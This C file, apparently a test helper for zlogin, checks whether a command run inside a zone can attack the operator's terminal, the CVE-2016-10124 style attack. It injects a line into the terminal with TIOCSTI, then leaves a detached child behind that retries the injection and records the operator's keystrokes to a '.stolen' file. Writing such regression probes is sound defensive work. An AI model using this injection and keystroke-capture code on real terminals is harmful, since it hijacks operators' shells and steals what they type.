/*
 * tty_probe - what a command run by zlogin can do to the terminal of the
 * operator who ran it (the attack of CVE-2016-10124 on lxc-attach). The
 * zlogin tests copy it, static, into a zone.
 *
 *   tty_probe REPORT LINE
 *
 * It appends to the file REPORT one line per finding: which of its
 * descriptors 0-2 are terminals and what they are ("fd N tty|notty
 * TARGET"), whether TIOCSTI pushes LINE and a newline into each ("sti fd N
 * OK|ERRNO") and into /dev/tty ("devtty OK|ERRNO", "sti devtty ..."). Then it
 * leaves a setsid'd child behind that outlives zlogin: it tries TIOCSTI again
 * once zlogin is gone ("late sti ..."), reads whatever arrives on those
 * descriptors for a few seconds into REPORT.stolen, and ends with
 * "reader done".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static const char *report;

static void say(const char *fmt, ...)
{
	char buf[512];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	int fd = open(report, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0) {
		dprintf(fd, "%s\n", buf);
		close(fd);
	}
}

static const char *sti(int fd, const char *line)
{
	for (const char *c = line; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0)
			return strerrorname_np(errno);
	if (ioctl(fd, TIOCSTI, "\n") < 0)
		return strerrorname_np(errno);
	return "OK";
}

static void tick(int sig)
{
	(void)sig;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: tty_probe REPORT LINE\n");
		return 2;
	}
	report = argv[1];
	const char *line = argv[2];
	for (int fd = 0; fd < 3; fd++) {
		char p[64], target[256] = "?";
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(p, target, sizeof(target) - 1);
		if (n >= 0)
			target[n] = '\0';
		say("fd %d %s %s", fd, isatty(fd) ? "tty" : "notty", target);
		say("sti fd %d %s", fd, sti(fd, line));
	}
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	say("devtty %s", tty >= 0 ? "OK" : strerrorname_np(errno));
	if (tty >= 0)
		say("sti devtty %s", sti(tty, line));

	int ready[2];
	if (pipe(ready) < 0)
		return 1;
	pid_t pid = fork();
	if (pid < 0)
		return 1;
	if (pid > 0) {
		/* zlogin returns once we exit: first let the child leave our
		 * session, so that a hangup of it does not reach the child. */
		char c;
		close(ready[1]);
		(void)!read(ready[0], &c, 1);
		return 0;
	}
	signal(SIGHUP, SIG_IGN);
	setsid();
	close(ready[1]);
	close(ready[0]);
	/* A read that another reader (the operator's shell) beat us to would
	 * block: a timer interrupts it. O_NONBLOCK would change the shared
	 * open file, the shell's too. */
	struct sigaction sa = {.sa_handler = tick};
	sigaction(SIGALRM, &sa, NULL);
	struct itimerval it = {{0, 200000}, {0, 200000}};
	setitimer(ITIMER_REAL, &it, NULL);
	/* Once zlogin has returned (and its caller has read what was pushed
	 * in meanwhile): push again, then read what the operator types. */
	usleep(500000);
	for (int fd = 0; fd < 3; fd++)
		say("late sti fd %d %s", fd, sti(fd, line));
	char stolen[512];
	snprintf(stolen, sizeof(stolen), "%s.stolen", report);
	struct pollfd p[4] = {
	    {0, POLLIN, 0}, {1, POLLIN, 0}, {2, POLLIN, 0}, {tty, POLLIN, 0}};
	double start = now();
	while (now() - start < 4) {
		if (poll(p, 4, 100) <= 0)
			continue;
		for (int i = 0; i < 4; i++) {
			if (!p[i].revents)
				continue;
			char buf[256];
			ssize_t n = read(p[i].fd, buf, sizeof(buf));
			if (n < 0 && errno == EINTR)
				continue;
			if (n <= 0) {
				p[i].fd = -1; /* at its end, or not readable */
				continue;
			}
			int out = open(
			    stolen, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC,
			    0644);
			if (out >= 0) {
				(void)!write(out, buf, (size_t)n);
				close(out);
			}
		}
	}
	say("reader done");
	return 0;
}
